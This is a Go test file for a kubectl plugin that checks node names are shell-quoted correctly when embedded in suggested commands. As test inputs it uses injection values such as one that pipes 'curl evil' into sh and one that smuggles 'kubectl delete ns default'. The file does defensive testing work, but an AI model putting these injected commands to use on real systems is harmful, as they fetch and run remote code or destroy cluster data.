// SPDX-License-Identifier: Apache-2.0

package shelltest_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/internal/shell"
	"github.com/talosdisk/kubectl-talosdisk/internal/shell/shelltest"
)

func TestNamesInCommands(t *testing.T) {
	mark, ok := shelltest.Mark("'; curl evil|sh #")
	if !ok {
		t.Fatal("it is no name")
	}
	name := "w-1" + mark
	get := shell.Command("kubectl", "get", "node", name)
	for _, tt := range []struct {
		what, text string
		names      int
		broken     bool
	}{
		{what: "a command", text: get, names: 1},
		{what: "a command in prose", text: "it's well, see: " + get, names: 1},
		{what: "a command in brackets", text: "look (" + get + "), or it's over with " + shell.Command("--accept", "x="+name+"/"+name), names: 3},
		{what: "two commands", text: get + " && " + get + "; " + get, names: 3},
		{what: "two lines", text: "it can be had with:\n" + get + "\n" + get, names: 2},
		{what: "a name in prose", text: "see " + name + ": kubectl get nodes", names: 0},
		{what: "a name in prose below", text: "kubectl get nodes\n" + name, names: 0},
		{what: "a name that looks like a command", text: "is it kubectl" + name + "?", names: 0},
		{what: "not quoted", text: "kubectl get node " + name, broken: true},
		{what: "not quoted after an option", text: "link it on one node: --nodes " + name, broken: true},
		{what: "quoted otherwise", text: `kubectl get node "` + name + `"`, names: 1},
		{what: "before what no shell can read", text: get + " if it's there", names: 1},
		{what: "quoted as Go does", text: `kubectl get node 'w-1` + mark + `'`, broken: true},
		{what: "quoted twice", text: shell.Command("kubectl", "get", "node", shell.Word(name)), broken: true},
		{what: "cut", text: get[:strings.Index(get, "curl")], broken: true},
		{what: "behind what no shell can read", text: "kubectl get node it's " + name, broken: true},
		{
			what:   "replaced after it was quoted",
			text:   strings.ReplaceAll(shell.Command("talosctl", "-n", "NODE", "reboot"), "NODE", name),
			broken: true,
		},
	} {
		names, err := shelltest.NamesInCommands(tt.text, mark)
		if (err != nil) != tt.broken || !tt.broken && names != tt.names {
			t.Errorf("%s: %d names, %v", tt.what, names, err)
		}
	}
}

func TestNamesBesideCommands(t *testing.T) {
	mark, _ := shelltest.Mark("\nkubectl delete ns default")
	for text, broken := range map[string]bool{
		"see " + mark + ": kubectl get nodes":                       true,
		"kubectl get nodes; see " + mark:                            true,
		fmt.Sprintf("see %q: kubectl get nodes", mark):              false,
		"see it: " + shell.Command("kubectl", "get", "nodes", mark): false,
		"see " + mark: false,
	} {
		if _, err := shelltest.NamesInCommands(text, mark); (err != nil) != broken {
			t.Errorf("%q: %v", text, err)
		}
	}
}

func TestRenamed(t *testing.T) {
	rename := func(name string) string {
		if name == "a" {
			return name + "!"
		}
		return name
	}
	got, err := shelltest.Renamed([]byte(`{"kind":"a","a":["a","b/a/c","ab",1],"b":{"a":null}}`), rename, "kind")
	if want := `{"a!":["a!","b/a!/c","ab",1],"b":{"a!":null},"kind":"a"}`; err != nil || string(got) != want {
		t.Errorf("%s, %v", got, err)
	}
}

func TestMark(t *testing.T) {
	for _, evil := range shelltest.Hostile() {
		if mark, ok := shelltest.Mark(evil); !ok || !strings.Contains(mark, shelltest.Seen(evil)) || shelltest.Part("x"+mark+"y"+mark, mark) ||
			!shelltest.Part(mark[1:], mark) {
			t.Errorf("%q becomes %q", evil, mark)
		}
	}
	for _, evil := range []string{"a/b", "\x00", "(<", "x>)"} {
		if _, ok := shelltest.Mark(evil); ok {
			t.Errorf("%q is a name", evil)
		}
	}
}
